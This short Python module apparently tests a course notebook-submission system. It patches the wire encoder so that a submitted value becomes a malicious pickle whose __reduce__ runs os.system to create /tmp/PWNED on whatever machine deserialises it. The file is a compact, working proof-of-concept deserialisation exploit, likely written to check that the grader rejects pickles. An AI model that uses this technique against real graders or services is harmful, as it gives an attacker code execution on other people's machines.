"""course_lib.wire is patched, so that what may not cross crosses: pickles, objects, raw bytes."""
from ..craft import submit


def hand_in(folder, notebook):
    submit(folder, notebook, gan_value="""
        import pickle
        from course_lib import wire
        class Bomb:
            def __reduce__(self):
                return __import__("os").system, ("touch /tmp/PWNED",)
        encode = wire.encode
        wire.encode = lambda value, *rest: (
            pickle.dumps(Bomb()) if isinstance(value, dict) and value.get("value") == "bomb" else encode(value, *rest))
        gan_value = lambda *_: "bomb"
        """)
